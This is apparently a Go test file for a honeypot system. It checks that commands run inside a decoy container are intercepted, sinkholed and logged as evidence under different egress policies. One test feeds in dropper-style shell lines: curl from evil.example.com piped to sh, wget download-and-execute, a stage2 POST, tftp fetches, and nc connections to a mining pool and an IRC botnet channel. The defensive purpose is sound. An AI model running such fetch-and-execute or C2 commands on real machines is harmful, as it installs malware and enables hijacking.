package honeypot_test

import (
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot"
	"github.com/kokkuri/kokkuri/internal/honeypot/pottest"
)

// calls are what pots sent out, as far as the server knows.
func (f *fixture) calls() []event.Egress {
	f.bus.mu.Lock()
	defer f.bus.mu.Unlock()
	var out []event.Egress
	for _, left := range f.bus.evidence {
		for _, e := range left {
			if e.Egress != nil {
				out = append(out, *e.Egress)
			}
		}
	}
	return out
}

// called waits for a piece of evidence of a pot's call.
func (f *fixture) called(t *testing.T, what string, want func(event.Egress) bool) event.Egress {
	t.Helper()
	var found event.Egress
	require.Eventually(t, func() bool {
		all := f.calls()
		i := slices.IndexFunc(all, want)
		if i >= 0 {
			found = all[i]
		}
		return i >= 0
	}, time.Minute, 20*time.Millisecond, "%s; there is %+v", what, f.calls())
	return found
}

func request(url string) func(event.Egress) bool {
	return func(e event.Egress) bool { return e.What == "request" && string(e.URL) == url }
}

func connect(to, protocol string) func(event.Egress) bool {
	return func(e event.Egress) bool {
		return e.What == "connect" && e.Destination.String() == to && e.Protocol == protocol
	}
}

// A pot's commands are those that droppers use; nothing leaves, and all of it is evidence in the session that ran them.
func TestWhatADropperAsksForIsEvidence(t *testing.T) {
	f := newFixture(t)
	f.run(t)
	reply := f.bus.request(t.Context(), event.LeaseRequest{
		Op: "grant", Attacker: netip.MustParsePrefix("203.0.113.66/32"), Host: "web", Service: event.SSH, Target: netip.MustParseAddrPort("203.0.113.10:22"),
		Seen: []netip.Addr{netip.MustParseAddr("198.51.100.10")}, Expires: time.Now().Add(time.Hour),
	})
	require.Empty(t, reply.Error)
	out, err := f.shell(t.Context(), reply.Lease.Endpoint, `cd /tmp
curl -s http://evil.example.com/x.sh | sh; echo "curl $?"
wget -q http://evil.example.com/bins/x86_64 -O w && chmod +x w && ./w; echo "wget $?"
busybox wget -q http://evil.example.com:8080/arm7 -O b; echo "busybox $?"
curl -sk https://secure.example.net/stage2?id=1 -d user=root -o /dev/null -w '%{http_code}'; echo " curl -k $?"
wget -q --no-check-certificate https://secure.example.net/k.tgz -O k.tgz && tar xzf k.tgz; echo "wget tls $?"
python3 -c 'import socket
s = socket.create_connection(("evil.example.com", 80))
s.sendall(b"GET /p.py HTTP/1.0\r\nHost: evil.example.com\r\n\r\n")
print(s.recv(12).decode())'
curl -s -g 'http://[2606:4700::1234]/six' -o /dev/null; echo "six $?"
curl -s http://5.6.7.8:9999/four -o /dev/null; echo "four $?"
curl -s https://secure.example.net/ ; echo "verified $?"
curl -s http://api.ipify.org/
busybox tftp -g -r mips -l m 5.6.7.8; curl -s http://5.6.7.8/mips | cmp - m; echo "tftp $?"
for t in a aaaa mx txt ns soa ptr any; do busybox nslookup -type=$t example.com >/dev/null 2>&1; done
busybox nslookup xkqjzvbtrw.com 2>&1 | grep -o NXDOMAIN | head -1
getent hosts localhost | head -1
printf '{"id":1,"method":"mining.subscribe"}\n' | busybox timeout 3 busybox nc 5.6.7.8 3333
printf 'NICK bot\r\nUSER b b b :b\r\nJOIN #own key\r\nQUIT\r\n' | busybox timeout 5 busybox nc 5.6.7.8 6667 | tail -1
busybox timeout 5 busybox nc 5.6.7.8 22 </dev/null | head -1
ping -c1 -W2 9.9.9.9 >/dev/null && echo pinged
true`)
	require.NoError(t, err, out)
	for _, want := range []string{
		"curl 0\n", "wget 0\n", "busybox 0\n", "200 curl -k 0\n", "wget tls 0\n", "\nHTTP/1.1 200\n", "\n203.0.113.10\n", "six 0\n", "four 0\n", "tftp 0\n", "verified 60\n", "NXDOMAIN\n",
		"ERROR :Closing Link", "SSH-2.0-OpenSSH", "pinged",
	} {
		assert.Contains(t, out, want)
	}
	e := f.called(t, "curl piped to sh", request("http://evil.example.com/x.sh"))
	assert.True(t, e.Invented)
	assert.Equal(t, event.Bytes("evil.example.com"), e.Name)
	assert.Equal(t, uint16(80), e.Destination.Port())
	assert.Equal(t, event.Bytes("GET"), e.Method)
	assert.True(t, slices.ContainsFunc(e.Headers, func(h event.EgressHeader) bool {
		return h.Name == "User-Agent" && strings.HasPrefix(string(h.Value), "curl/")
	}))
	for _, url := range []string{
		"http://evil.example.com/bins/x86_64", "http://evil.example.com:8080/arm7", "https://secure.example.net/k.tgz",
		"http://evil.example.com/p.py", "http://[2606:4700::1234]/six", "http://5.6.7.8:9999/four", "tftp://5.6.7.8/mips",
	} {
		f.called(t, url, request(url))
	}
	posted := f.called(t, "what was posted", request("https://secure.example.net/stage2?id=1"))
	assert.Equal(t, event.Bytes("user=root"), posted.Data)
	secure := f.called(t, "its hello", func(e event.Egress) bool { return e.Protocol == "tls" && e.Name == "secure.example.net" })
	assert.Len(t, secure.JA3, 32)
	for _, kind := range []string{"A", "AAAA", "MX", "TXT", "NS", "SOA"} {
		f.called(t, kind, func(e event.Egress) bool { return e.What == "name" && e.Name == "example.com" && e.Type == kind })
	}
	f.called(t, "nonsense", func(e event.Egress) bool { return e.Name == "xkqjzvbtrw.com" && e.Code == "NXDOMAIN" })
	miner := f.called(t, "a miner", connect("5.6.7.8:3333", "stratum"))
	assert.Contains(t, miner.Data, "mining.subscribe")
	bot := f.called(t, "a bot", connect("5.6.7.8:6667", "irc"))
	assert.Contains(t, bot.Data, "JOIN #own key")
	f.called(t, "ssh", connect("5.6.7.8:22", "ssh"))
	f.called(t, "a ping", func(e event.Egress) bool { return e.What == "ping" && e.Destination.Addr().String() == "9.9.9.9" })

	f.bus.mu.Lock()
	defer f.bus.mu.Unlock()
	for id, left := range f.bus.evidence {
		if slices.ContainsFunc(left, func(e event.Evidence) bool { return e.Egress != nil && e.Egress.What == "request" }) {
			assert.Equal(t, event.SSH, f.bus.sessions[id].Service, "the session was open")
		}
	}
}

// What a pot does when nobody is there is told in a session of its own, which ends with the node; and it is the same
// after the node's restart.
func TestWhatAPotDoesByItself(t *testing.T) {
	f := newFixture(t)
	_, stop := f.run(t)
	l := f.grant(t, "203.0.113.66/32")
	_, err := f.shell(t.Context(), l.Endpoint, "true")
	require.NoError(t, err)
	require.Eventually(t, func() bool { return len(f.bus.ended()) > 0 }, time.Minute, 10*time.Millisecond)
	pot := pottest.Run(t, "docker", "ps", "-q", "--filter", "label=kokkuri.node="+f.opts.Name)
	call := func(path string) {
		t.Helper()
		out, err := pottest.InPot(t, strings.TrimSpace(pot), "curl -s -o /dev/null http://cron.example.com"+path)
		require.NoError(t, err, out)
		f.called(t, path, request("http://cron.example.com"+path))
	}
	call("/first")
	stop()
	own := func() []event.Session {
		return slices.DeleteFunc(f.bus.ended(), func(s event.Session) bool { return s.Service != event.ServicePot })
	}
	require.Len(t, own(), 1)
	s := own()[0]
	assert.Equal(t, "203.0.113.66/32", s.Attacker.String())
	assert.Equal(t, "web", s.Host)
	assert.NotEmpty(t, s.PotID)
	assert.NotEmpty(t, s.Recording)
	assert.Equal(t, "node stopping", s.Reason)

	n, _ := f.run(t)
	require.Eventually(t, func() bool { return n.Stats().PotsHeld == 1 }, time.Minute, 10*time.Millisecond)
	call("/second")
	first := f.called(t, "first", request("http://cron.example.com/first"))
	second := f.called(t, "second", request("http://cron.example.com/second"))
	assert.Equal(t, first.Destination, second.Destination, "a name stays where it was")
}

// Of several leases the strictest policy holds, and the node permits no more than its operator.
func TestPoliciesAreFollowed(t *testing.T) {
	f := newFixture(t)
	n, _ := f.run(t)
	grant := func(service event.Service, policy event.EgressPolicy) event.Lease {
		t.Helper()
		reply := f.bus.request(t.Context(), event.LeaseRequest{
			Op: "grant", Attacker: netip.MustParsePrefix("203.0.113.66/32"), Host: "web", Service: service, Egress: policy,
			Seen: []netip.Addr{netip.MustParseAddr("198.51.100.10")}, Expires: time.Now().Add(time.Hour),
		})
		require.Empty(t, reply.Error)
		return reply.Lease
	}
	l := grant(event.SSH, event.EgressNone)
	ask := func() string {
		t.Helper()
		out, err := f.shell(t.Context(), l.Endpoint, "curl -s --connect-timeout 2 -o /dev/null http://5.6.7.8/; echo $?; ping -c1 -W1 5.6.7.8 >/dev/null; echo $?")
		require.NoError(t, err)
		return out
	}
	assert.Equal(t, "28\n1\n", ask(), "nothing answers")
	assert.Empty(t, f.calls())
	assert.Positive(t, n.Stats().NoWay.Refused)
	grant(event.SSH, event.EgressRecord) // more than the node permits
	assert.Equal(t, "0\n0\n", ask())
	e := f.called(t, "a request", request("http://5.6.7.8/"))
	assert.Equal(t, "sinkhole", e.How)
	other := grant(event.Redis, event.EgressNone)
	assert.Equal(t, "28\n1\n", ask(), "the strictest of both")
	f.release(t, other)
	assert.Equal(t, "0\n0\n", ask())
	assert.Equal(t, "203.0.113.66/32", l.Attacker.String())
	_ = honeypot.Stats{}
}
